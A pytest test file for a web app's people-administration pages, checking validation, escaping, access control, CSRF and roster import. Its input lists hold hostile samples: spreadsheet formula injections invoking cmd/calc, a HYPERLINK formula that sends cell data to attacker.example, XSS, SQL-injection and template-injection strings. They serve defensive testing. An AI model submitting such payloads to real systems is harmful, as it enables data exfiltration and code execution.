"""People administration on the web: list, search, add, edit, deactivate and reactivate, send a
sign-in link, import the roster. Every change goes through ``actions.people`` and is audited."""

from __future__ import annotations

import base64
import io
import re

import pytest
from sqlalchemy import func, select

from assessment import actions, queries
from assessment.actions import SYSTEM, Conflict, Forbidden
from assessment.extensions import db
from assessment.models import Account, AuditEntry, Mail, Person
from assessment.tenancy import acting_for
from tests.conftest import (
    PASSWORD,
    add_user,
    complete_answers,
    log_in,
    open_test_cycle,
    submit_answers,
)

CYCLE = "2026-Q4"
ROSTER = (
    "email;name;role;permissions\n"
    "ceo@example.com;Casey Chief;Chief Executive Officer;committee\n"
    "new@example.com;Nina New;cio;committee fact_owner\n"
    "broken;Bad Row;;\n"
)

# From BAD_INPUTS.md: what the name and e-mail fields must refuse with a clear message.
BAD_NAMES = [
    ("=cmd|' /C calc'!A0", "cannot start with =, +, - or @"),
    ('=HYPERLINK("https://attacker.example/?d="&A1,"Click")', "cannot start with ="),
    ("+1+cmd|' /C calc'!A0", "cannot start with ="),
    ("-2+3+cmd|' /C calc'!A0", "cannot start with ="),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "cannot start with ="),
    ("\t=1+1", "must not contain control characters"),
    ("\r=1+1", "must not contain control characters"),
    ("Evil\u202eName", "invisible formatting characters (U+202E)"),
    ("Nul\x00Byte", "must not contain control characters"),
    ("x" * 100_000, "The name is too long: at most 200 characters."),
    ("   ", "Enter the person&#39;s name."),
]
BAD_EMAILS = [
    ('"><h1>X</h1><img src=x onerror=alert(1)>', "must have an @-sign"),
    ("javascript:alert(1)", "must have an @-sign"),
    ("1'; SELECT SLEEP(5)--@example.com", "invalid characters before the @-sign"),
    ("ceo@example.com\u202e", "unsafe characters"),
    ("a\x00b@example.com", "invalid characters"),
    ("x" * 300 + "@example.com", "at most 254 characters"),
    ("", "Enter the e-mail address."),
]
# Accepted as names, shown as text.
HTML_NAMES = [
    '"><h1>X</h1><img src=x onerror=alert(1)>',
    "<xmp><script>alert(1)</script></xmp>",
    "<svg/onload=alert(1)>",
    "{{7*7}} {{ config.items() }}",
    "1') OR ('1'='1",
    "Zoë 🙂",
]


@pytest.fixture
def admin(app, client):
    add_user(app, "admin@example.com", name="Ada Admin", permissions=("admin",))
    add_user(app, "ceo@example.com", name="Casey Chief", role="ceo", permissions=("committee",))
    add_user(app, "cio@example.com", name="Chris Info", role="cio")
    log_in(client, "admin@example.com")
    return client


def person_id(app, email: str) -> int:
    with app.app_context():
        found = queries.find_person_by_email(db.session, email)
        assert found is not None
        return found.id


def account(app, email: str) -> Account:
    with app.app_context():
        found = queries.find_account_by_email(db.session, email)
        assert found is not None
        db.session.expunge(found)
        return found


def people_count(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(Person)) or 0


def entries(app, action: str) -> list[tuple[str, str, dict]]:
    with app.app_context():
        rows = db.session.scalars(
            select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.id)
        )
        return [(e.actor, e.target, e.details) for e in rows]


def audit_count(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(AuditEntry)) or 0


def mails_to(app, email: str) -> list[Mail]:
    with app.app_context():
        return list(db.session.scalars(select(Mail).where(Mail.recipient == email)))


def new_person(**overrides):
    form = {"email": "dana@example.com", "name": "Dana Doe", "role": "", "send_link": "y"}
    form.update(overrides)
    return form


# --- the list ------------------------------------------------------------------------------------


def test_people_list_shows_details_and_status(app, admin):
    html = admin.get("/admin/people").get_data(as_text=True)
    assert "Casey Chief" in html and "ceo@example.com" in html and "CEO" in html
    assert "Committee member" in html and "Administrator" in html
    assert "never" in html  # Casey never signed in
    assert "3 people" in html
    assert "assessment users create" not in html  # no more "use the command line"


@pytest.mark.parametrize(
    ("query", "found", "missing"),
    [
        ("casey", "Casey Chief", "Chris Info"),
        ("CIO@EXAMPLE", "Chris Info", "Casey Chief"),
        ("ceo", "Casey Chief", "Chris Info"),  # the role label
        ("ada admin", "Ada Admin", "Casey Chief"),
        ("%", "Nobody matches", "Casey Chief"),  # LIKE wildcards are literal
        ("_", "Nobody matches", "Casey Chief"),
        ("1'; SELECT SLEEP(5)--", "Nobody matches", "Casey Chief"),
        ("\x00", "Casey Chief", "Nobody matches"),  # NUL dropped: an empty search
    ],
    ids=["name", "email-upper-case", "role", "full-name", "percent", "underscore", "sql", "nul"],
)
def test_people_list_search(admin, query, found, missing):
    html = admin.get("/admin/people", query_string={"q": query}).get_data(as_text=True)
    assert found in html
    assert missing not in html


def test_people_list_filter_by_status(app, admin):
    with app.app_context():
        actions.people.deactivate(SYSTEM, person_id(app, "cio@example.com"))
        db.session.commit()
    active = admin.get("/admin/people").get_data(as_text=True)
    gone = admin.get("/admin/people?status=deactivated").get_data(as_text=True)
    everyone = admin.get("/admin/people?status=all").get_data(as_text=True)
    assert "Chris Info" not in active and "Casey Chief" in active
    assert "Chris Info" in gone and "Casey Chief" not in gone and "Deactivated" in gone
    assert "Chris Info" in everyone and "Casey Chief" in everyone
    assert admin.get("/admin/people?status=<script>").status_code == 200  # falls back to active


def test_people_pages_refuse_non_administrators(app, client):
    add_user(app, "ceo@example.com", role="ceo", permissions=("committee", "fact_owner"))
    log_in(client, "ceo@example.com")
    pid = person_id(app, "ceo@example.com")
    for method, path in [
        ("GET", "/admin/people"),
        ("GET", "/admin/people/new"),
        ("POST", "/admin/people/new"),
        ("GET", f"/admin/people/{pid}"),
        ("POST", f"/admin/people/{pid}"),
        ("POST", f"/admin/people/{pid}/deactivate"),
        ("POST", f"/admin/people/{pid}/reactivate"),
        ("POST", f"/admin/people/{pid}/link"),
        ("GET", "/admin/people/import"),
        ("POST", "/admin/people/import/confirm"),
    ]:
        assert client.open(path, method=method, data={}).status_code == 403, path
    assert 'href="/admin/people"' not in client.get("/").get_data(as_text=True)


def test_people_pages_answer_404_for_an_unknown_person(admin):
    assert admin.get("/admin/people/999").status_code == 404
    assert admin.post("/admin/people/999/deactivate").status_code == 404


# --- adding --------------------------------------------------------------------------------------


def test_add_person_with_role_permissions_and_welcome_link(app, admin):
    response = admin.post(
        "/admin/people/new",
        data=new_person(email=" Dana@Example.COM ", role="hr", permissions=["fact_owner"]),
    )
    assert response.status_code == 302
    flashed = admin.get(response.headers["Location"]).get_data(as_text=True)
    assert "Dana Doe was added and was e-mailed a link to set a password." in flashed
    added = account(app, "dana@example.com")
    assert added.active
    with app.app_context():
        person = queries.find_person_by_email(db.session, "dana@example.com")
        assert person.role == "hr" and person.account.permissions == {"fact_owner"}
    (mail,) = mails_to(app, "dana@example.com")
    assert "http://assessment.test/reset/" in mail.body
    assert entries(app, "account_created")[-1][:2] == ("admin@example.com", "dana@example.com")
    (sent,) = entries(app, "password_reset_link_sent")
    assert sent[2]["kind"] == "welcome"


def test_add_person_without_the_link_sends_nothing(app, admin):
    data = new_person()
    del data["send_link"]
    assert admin.post("/admin/people/new", data=data).status_code == 302
    assert mails_to(app, "dana@example.com") == []
    assert "was added." in admin.get("/admin/people").get_data(as_text=True)


def test_add_form_ticks_the_link_by_default_and_explains_permissions(admin):
    html = admin.get("/admin/people/new").get_data(as_text=True)
    assert re.search(r'<input[^>]*checked[^>]*id="send_link"', html)
    assert "Reports the facts" in html and "Manages people, cycles" in html
    assert ">Legal executive</option>" in html


@pytest.mark.parametrize(("name", "message"), BAD_NAMES, ids=lambda v: repr(v)[:25])
def test_add_person_refuses_bad_names_clearly(app, admin, name, message):
    before = people_count(app)
    response = admin.post("/admin/people/new", data=new_person(name=name))
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert message in html
    assert 'aria-invalid="true"' in html
    assert people_count(app) == before


@pytest.mark.parametrize(("email", "message"), BAD_EMAILS, ids=lambda v: repr(v)[:25])
def test_add_person_refuses_bad_emails_clearly(app, admin, email, message):
    before = people_count(app)
    response = admin.post("/admin/people/new", data=new_person(email=email))
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert message in html
    assert "<h1>X</h1>" not in html and "<img src=x" not in html
    assert people_count(app) == before


def test_a_request_of_a_megabyte_is_refused_cleanly(app, admin):
    response = admin.post("/admin/people/new", data=new_person(name="x" * 1_100_000))
    assert response.status_code == 413
    assert people_count(app) == 3


def test_add_person_refuses_an_address_in_use(app, admin):
    response = admin.post("/admin/people/new", data=new_person(email="CEO@example.com"))
    assert "Another person already has this e-mail address." in response.get_data(as_text=True)
    assert people_count(app) == 3


def test_add_person_refuses_unknown_role_and_permission(app, admin):
    html = admin.post(
        "/admin/people/new", data=new_person(role="boss", permissions=["root"])
    ).get_data(as_text=True)
    assert "Not a valid choice" in html
    assert people_count(app) == 3


@pytest.mark.parametrize("name", HTML_NAMES, ids=range(len(HTML_NAMES)))
def test_names_that_look_like_html_are_stored_and_shown_as_text(app, admin, name):
    assert admin.post("/admin/people/new", data=new_person(name=name)).status_code == 302
    html = admin.get("/admin/people").get_data(as_text=True)
    assert "<script>alert" not in html and "<img src=x" not in html and "<svg/" not in html
    if "{{7*7}}" in name:
        assert "{{7*7}}" in html  # shown as typed, never evaluated
    with app.app_context():
        assert queries.find_person_by_email(db.session, "dana@example.com").name == name.strip()
    edit = admin.get(f"/admin/people/{person_id(app, 'dana@example.com')}").get_data(as_text=True)
    assert "<script>alert" not in edit and "<svg/" not in edit


# --- editing -------------------------------------------------------------------------------------


def test_edit_person_changes_fields_and_audits_from_and_to(app, admin):
    pid = person_id(app, "cio@example.com")
    page = admin.get(f"/admin/people/{pid}").get_data(as_text=True)
    assert 'value="Chris Info"' in page and '<option selected value="cio">' in page
    response = admin.post(
        f"/admin/people/{pid}",
        data={
            "email": "chris@example.com",
            "name": "Chris Infosec",
            "role": "it_manager",
            "permissions": ["fact_owner", "committee"],
        },
    )
    assert response.status_code == 302
    flashed = admin.get(response.headers["Location"]).get_data(as_text=True)
    assert "Saved Chris Infosec: email, name, role, permissions changed." in flashed
    with app.app_context():
        person = db.session.get(Person, pid)
        assert (person.email, person.name, person.role) == (
            "chris@example.com",
            "Chris Infosec",
            "it_manager",
        )
        assert person.account.permissions == {"committee", "fact_owner"}
    (entry,) = entries(app, "person_updated")
    assert entry[:2] == ("admin@example.com", "chris@example.com")
    assert entry[2]["changes"] == {
        "email": ["cio@example.com", "chris@example.com"],
        "name": ["Chris Info", "Chris Infosec"],
        "role": ["cio", "it_manager"],
        "permissions": [[], ["committee", "fact_owner"]],
    }


def test_edit_without_changes_writes_nothing(app, admin):
    pid = person_id(app, "ceo@example.com")
    before = audit_count(app)
    data = {"email": "ceo@example.com", "name": "Casey Chief", "role": "ceo"}
    response = admin.post(f"/admin/people/{pid}", data={**data, "permissions": ["committee"]})
    assert "Nothing changed." in admin.get(response.headers["Location"]).get_data(as_text=True)
    assert audit_count(app) == before


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("email", "ceo@example.com", "Another person already has this e-mail address."),
        ("email", "not-an-address", "must have an @-sign"),
        ("name", "=1+1", "cannot start with ="),
        ("name", "Bad\u202eName", "invisible formatting characters"),
    ],
    ids=["address-in-use", "bad-address", "formula-name", "bidi-name"],
)
def test_edit_person_refuses_bad_values(app, admin, field, value, message):
    pid = person_id(app, "cio@example.com")
    data = {"email": "cio@example.com", "name": "Chris Info", "role": "cio", field: value}
    html = admin.post(f"/admin/people/{pid}", data=data).get_data(as_text=True)
    assert message in html
    with app.app_context():
        assert db.session.get(Person, pid).name == "Chris Info"
    assert entries(app, "person_updated") == []


def test_an_administrator_cannot_remove_their_own_admin_permission(app, admin):
    pid = person_id(app, "admin@example.com")
    data = {"email": "admin@example.com", "name": "Ada Admin", "role": "", "permissions": []}
    html = admin.post(f"/admin/people/{pid}", data=data).get_data(as_text=True)
    assert "You cannot remove your own administrator permission" in html
    assert account(app, "admin@example.com").permissions == {"admin"}


def test_the_last_active_administrator_keeps_admin_and_stays_active(app, admin):
    pid = person_id(app, "admin@example.com")
    with app.app_context():
        with pytest.raises(Conflict, match="last active administrator"):
            actions.people.update_person(
                SYSTEM, pid, email="admin@example.com", name="Ada", role=None, permissions=()
            )
        with pytest.raises(Conflict, match="last active administrator"):
            actions.people.deactivate(SYSTEM, pid)
    # With a second administrator, one of them may lose the permission (not themselves).
    add_user(app, "second@example.com", name="Sam Second", permissions=("admin",))
    second = person_id(app, "second@example.com")
    data = {"email": "second@example.com", "name": "Sam Second", "role": "", "permissions": []}
    assert admin.post(f"/admin/people/{second}", data=data).status_code == 302
    assert account(app, "second@example.com").permissions == frozenset()


def test_a_role_cannot_change_while_the_person_is_answering(app, admin):
    open_test_cycle(app, CYCLE)
    with app.app_context():
        person = queries.find_person_by_email(db.session, "ceo@example.com")
        queries.start_response(db.session, person, queries.get_cycle(db.session, CYCLE))
        db.session.commit()
    pid = person_id(app, "ceo@example.com")
    data = {"email": "ceo@example.com", "name": "Casey Chief", "role": "cio"}
    html = admin.post(f"/admin/people/{pid}", data=data).get_data(as_text=True)
    assert "answers in cycle 2026-Q4 are asked and reported" in html
    with app.app_context():
        assert db.session.get(Person, pid).role == "ceo"


# --- deactivating and reactivating ---------------------------------------------------------------


def test_deactivate_asks_first_and_says_what_happens(app, admin):
    pid = person_id(app, "ceo@example.com")
    html = admin.get(f"/admin/people/{pid}/deactivate").get_data(as_text=True)
    for consequence in (
        "cannot sign in",
        "every session they have open ends at once",
        "invitation links and password links stop working",
        "not invited to new cycles and not counted as “did not answer”",
        "past answers stay in past reports",
    ):
        assert consequence in html
    assert account(app, "ceo@example.com").active  # a GET changes nothing


def test_deactivate_ends_sessions_blocks_sign_in_and_invitation_links(app, admin):
    open_test_cycle(app, CYCLE)
    with app.test_request_context(), acting_for(1):
        person = queries.find_person_by_email(db.session, "ceo@example.com")
        invitation = queries.get_or_create_invitation(
            db.session, person, queries.get_cycle(db.session, CYCLE)
        )
        link = actions.invitations.issue_link(invitation).replace("http://assessment.test", "")
        db.session.commit()
    executive = app.test_client()
    log_in(executive, "ceo@example.com")
    assert executive.get("/").status_code == 200

    response = admin.post(f"/admin/people/{person_id(app, 'ceo@example.com')}/deactivate")
    assert response.status_code == 302
    assert "Casey Chief is deactivated." in admin.get(response.headers["Location"]).get_data(
        as_text=True
    )
    assert not account(app, "ceo@example.com").active
    assert executive.get("/").headers["Location"].startswith("/login")  # the session ended
    refused = log_in(app.test_client(), "ceo@example.com")
    assert "do not match an active account" in refused.get_data(as_text=True)
    opened = app.test_client().get(link)
    assert opened.status_code == 404
    assert "account it was sent to has been deactivated" in opened.get_data(as_text=True)
    (entry,) = entries(app, "account_deactivated")
    assert entry[:2] == ("admin@example.com", "ceo@example.com")


def test_deactivated_people_are_not_invited_nor_counted_as_not_answering(app, admin):
    open_test_cycle(app, CYCLE)
    with app.app_context():
        actions.people.deactivate(SYSTEM, person_id(app, "cio@example.com"))
        db.session.commit()
        assert [p.email for p in queries.executives(db.session)] == ["ceo@example.com"]
    admin.post(f"/admin/cycles/{CYCLE}/invitations", data={"kind": "invitation"})
    assert mails_to(app, "cio@example.com") == []
    assert len(mails_to(app, "ceo@example.com")) == 1
    cycle_page = admin.get(f"/admin/cycles/{CYCLE}").get_data(as_text=True)
    assert "Casey Chief" in cycle_page and "Chris Info" not in cycle_page


def test_an_administrator_cannot_deactivate_themselves(app, admin):
    pid = person_id(app, "admin@example.com")
    assert "You cannot deactivate yourself" in admin.get(f"/admin/people/{pid}").get_data(
        as_text=True
    )
    response = admin.post(f"/admin/people/{pid}/deactivate")
    assert "You cannot deactivate yourself" in admin.get(response.headers["Location"]).get_data(
        as_text=True
    )
    assert account(app, "admin@example.com").active
    with app.app_context(), pytest.raises(Forbidden):
        actor = actions.Actor("admin@example.com", pid, None, frozenset({"admin"}))
        actions.people.deactivate(actor, pid)


def test_reactivate_lets_the_person_sign_in_again(app, admin):
    pid = person_id(app, "ceo@example.com")
    admin.post(f"/admin/people/{pid}/deactivate")
    page = admin.get(f"/admin/people/{pid}/reactivate").get_data(as_text=True)
    assert "they can sign in again" in page
    response = admin.post(f"/admin/people/{pid}/reactivate")
    assert response.status_code == 302
    assert account(app, "ceo@example.com").active
    assert log_in(app.test_client(), "ceo@example.com", PASSWORD).status_code == 302
    (entry,) = entries(app, "account_reactivated")
    assert entry[:2] == ("admin@example.com", "ceo@example.com")
    # Twice is refused with a message, not an error page.
    again = admin.post(f"/admin/people/{pid}/reactivate")
    assert "already active" in admin.get(again.headers["Location"]).get_data(as_text=True)


# --- sign-in links -------------------------------------------------------------------------------


def test_send_a_sign_in_link(app, admin):
    pid = person_id(app, "ceo@example.com")
    response = admin.post(f"/admin/people/{pid}/link")
    assert "A link to set a new password was e-mailed to ceo@example.com." in admin.get(
        response.headers["Location"]
    ).get_data(as_text=True)
    (mail,) = mails_to(app, "ceo@example.com")
    assert "http://assessment.test/reset/" in mail.body
    (entry,) = entries(app, "password_reset_link_sent")
    assert entry[:2] == ("admin@example.com", "ceo@example.com") and entry[2]["kind"] == "reset"


def test_no_sign_in_link_for_a_deactivated_person(app, admin):
    pid = person_id(app, "ceo@example.com")
    admin.post(f"/admin/people/{pid}/deactivate")
    response = admin.post(f"/admin/people/{pid}/link")
    assert "reactivate them before sending a link" in admin.get(
        response.headers["Location"]
    ).get_data(as_text=True)
    assert mails_to(app, "ceo@example.com") == []


# --- CSRF ----------------------------------------------------------------------------------------


def test_forged_posts_are_refused_with_csrf_on(app_factory):
    app = app_factory(WTF_CSRF_ENABLED=True)
    add_user(app, "admin@example.com", permissions=("admin",))
    add_user(app, "ceo@example.com", name="Casey Chief", role="ceo")
    client = app.test_client()
    html = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', html).group(1)
    form = {"email": "admin@example.com", "password": PASSWORD, "csrf_token": token}
    assert client.post("/login", data=form).status_code == 302
    pid = person_id(app, "ceo@example.com")
    assert client.post(f"/admin/people/{pid}/deactivate").status_code == 400
    assert client.post("/admin/people/new", data=new_person()).status_code == 400
    assert account(app, "ceo@example.com").active and people_count(app) == 2
    # With the page's token the same request goes through.
    page = client.get(f"/admin/people/{pid}/deactivate").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    assert (
        client.post(f"/admin/people/{pid}/deactivate", data={"csrf_token": token}).status_code
        == 302
    )
    assert not account(app, "ceo@example.com").active


# --- the roster ----------------------------------------------------------------------------------


def upload(client, text: str | bytes, filename: str = "roster.csv"):
    data = text.encode() if isinstance(text, str) else text
    return client.post(
        "/admin/people/import",
        data={"file": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
    )


def confirmation(html: str) -> dict[str, str]:
    return {
        name: re.search(rf'name="{name}" type="hidden" value="([^"]+)"', html).group(1)
        for name in ("payload", "token")
    }


def test_import_previews_then_applies_exactly_that(app, admin):
    before_people, before_audit = people_count(app), audit_count(app)
    preview = upload(admin, "\ufeff" + ROSTER)
    html = preview.get_data(as_text=True)
    assert preview.status_code == 200
    assert "Nothing has been written yet." in html
    assert "New person" in html and "Unchanged" in html
    assert "Error, not imported:" in html and "An email address must have an @-sign." in html
    assert "an import never deactivates anyone" in html
    assert "Import 1 person (new and changed), skip 1 with errors" in html
    assert (people_count(app), audit_count(app)) == (before_people, before_audit)

    done = admin.post("/admin/people/import/confirm", data=confirmation(html))
    assert done.status_code == 302
    flashed = admin.get(done.headers["Location"]).get_data(as_text=True)
    assert "Imported: 1 added, 0 changed (1 unchanged; 1 row(s) with errors skipped)" in flashed
    assert "People missing from the file were left as they are." in flashed
    assert people_count(app) == before_people + 1
    with app.app_context():
        added = queries.find_person_by_email(db.session, "new@example.com")
        assert (added.name, added.role) == ("Nina New", "cio")
        assert added.account.permissions == {"committee", "fact_owner"}
    assert account(app, "cio@example.com").active  # missing from the file: untouched
    (entry,) = entries(app, "roster_imported")
    assert entry[2] == {"created": 1, "updated": 0, "unchanged": 1, "skipped": 1}
    assert entries(app, "account_created")[-1][1] == "new@example.com"


def test_import_changes_existing_people_and_records_each_change(app, admin):
    html = upload(
        admin, "email,name,role,permissions\nceo@example.com,Casey Chief,ceo,committee admin\n"
    ).get_data(as_text=True)
    assert "permissions: committee → admin, committee" in html
    admin.post("/admin/people/import/confirm", data=confirmation(html))
    assert account(app, "ceo@example.com").permissions == {"admin", "committee"}
    (entry,) = entries(app, "person_updated")
    assert entry[2]["changes"] == {"permissions": [["committee"], ["admin", "committee"]]}
    assert entry[2]["source"] == "roster import" and entry[2]["line"] == 2


def test_importing_the_same_file_twice_changes_nothing(app, admin):
    first = upload(admin, ROSTER).get_data(as_text=True)
    admin.post("/admin/people/import/confirm", data=confirmation(first))
    people, audited = people_count(app), audit_count(app)
    second = upload(admin, ROSTER).get_data(as_text=True)
    assert "New person" not in second and "Changed:" not in second
    assert second.count("Unchanged") == 2
    assert "Nothing to import" in second
    done = admin.post("/admin/people/import/confirm", data=confirmation(second))
    flashed = admin.get(done.headers["Location"]).get_data(as_text=True)
    assert "Nothing was changed (2 unchanged; 1 row(s) with errors skipped)" in flashed
    assert (people_count(app), audit_count(app)) == (people, audited)


def test_import_refuses_a_confirmation_when_people_changed_since_the_preview(app, admin):
    html = upload(admin, ROSTER).get_data(as_text=True)
    add_user(app, "new@example.com", name="Nina Meanwhile")  # added by someone else meanwhile
    refused = admin.post("/admin/people/import/confirm", data=confirmation(html))
    page = refused.get_data(as_text=True)
    assert refused.status_code == 200
    assert "People have changed since the preview, so nothing was imported" in page
    assert "name: Nina Meanwhile → Nina New" in page  # the new preview
    with app.app_context():
        assert queries.find_person_by_email(db.session, "new@example.com").name == "Nina Meanwhile"
    assert entries(app, "roster_imported") == []


@pytest.mark.parametrize(
    "tamper",
    [
        lambda form: {**form, "token": form["token"][:-2] + "xx"},
        lambda form: {**form, "payload": "%%% not base64"},
        lambda form: {**form, "payload": "", "token": ""},
    ],
    ids=["token", "payload", "empty"],
)
def test_import_refuses_an_altered_confirmation(app, admin, tamper):
    html = upload(admin, ROSTER).get_data(as_text=True)
    before = people_count(app)
    refused = admin.post("/admin/people/import/confirm", data=tamper(confirmation(html)))
    assert refused.headers["Location"] == "/admin/people/import"
    assert "upload the file again" in admin.get("/admin/people/import").get_data(as_text=True)
    assert people_count(app) == before


def test_import_of_a_changed_file_with_the_old_token_shows_a_new_preview(app, admin):
    form = confirmation(upload(admin, ROSTER).get_data(as_text=True))
    other = ROSTER.replace("Nina New", "Eve Evil")
    form["payload"] = base64.b64encode(other.encode()).decode()
    page = admin.post("/admin/people/import/confirm", data=form).get_data(as_text=True)
    assert "nothing was imported" in page and "Eve Evil" in page
    with app.app_context():
        assert queries.find_person_by_email(db.session, "new@example.com") is None


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ("é".encode("latin-1"), "The file is not UTF-8 text"),
        (b"x" * 200_001, "larger than 200 kB"),
        (b"", "The file is empty"),
        (b"email,name\nx@example.com,X\n", "lacks the columns role, permissions"),
        (b"\x00\x01\x02", "lacks the columns email, name, role, permissions"),
    ],
    ids=["latin-1", "too-large", "empty", "missing-columns", "binary"],
)
def test_import_refuses_a_file_it_cannot_read(app, admin, data, message):
    response = upload(admin, data)
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert message in html and "Roster preview" not in html


def test_import_preview_escapes_what_the_file_holds(app, admin):
    text = (
        "email,name,role,permissions\n"
        'x@example.com,"<img src=x onerror=alert(1)>",<script>alert(1)</script>,{{7*7}}\n'
    )
    html = upload(admin, text).get_data(as_text=True)
    assert "<img src=x" not in html and "<script>alert(1)</script>" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "Unknown role “&lt;script&gt;alert(1)&lt;/script&gt;”" in html


def test_a_role_cannot_change_until_the_cycle_of_a_submitted_answer_is_frozen(app, admin):
    open_test_cycle(app, CYCLE)
    submit_answers(app, "ceo@example.com", complete_answers("ceo"))
    pid = person_id(app, "ceo@example.com")
    data = {"email": "ceo@example.com", "name": "Casey Chief", "role": "cio"}
    with app.app_context():
        actions.cycles.change_status(SYSTEM, queries.get_cycle(db.session, CYCLE), "close")
        db.session.commit()
    html = admin.post(f"/admin/people/{pid}", data=data).get_data(as_text=True)
    assert "answers in cycle 2026-Q4 are asked and reported" in html
    with app.app_context():
        assert db.session.get(Person, pid).role == "ceo"
        actions.cycles.change_status(SYSTEM, queries.get_cycle(db.session, CYCLE), "freeze")
        db.session.commit()
    assert admin.post(f"/admin/people/{pid}", data=data).status_code == 302
    with app.app_context():
        assert db.session.get(Person, pid).role == "cio"


def test_correcting_an_address_kills_the_links_mailed_to_the_old_one(app, admin):
    open_test_cycle(app, CYCLE)
    pid = person_id(app, "ceo@example.com")
    with app.test_request_context(), acting_for(1):
        person = db.session.get(Person, pid)
        invitation = queries.get_or_create_invitation(
            db.session, person, queries.get_cycle(db.session, CYCLE)
        )
        invitation_link = actions.invitations.issue_link(invitation)
        actions.password_reset.send_link(SYSTEM, person.account, welcome=True)
        db.session.commit()
        reset_link = re.search(r"http://assessment\.test(/reset/\S+)", outbox_body(app)).group(1)
    invitation_path = invitation_link.replace("http://assessment.test", "")
    assert app.test_client().get(reset_link).status_code == 200
    data = {"email": "casey@example.com", "name": "Casey Chief", "role": "ceo"}
    assert admin.post(f"/admin/people/{pid}", data=data).status_code == 302
    assert app.test_client().get(reset_link).status_code == 410
    assert app.test_client().get(invitation_path).status_code == 404


def outbox_body(app) -> str:
    with app.app_context():
        return db.session.scalars(select(Mail).order_by(Mail.id.desc())).first().body
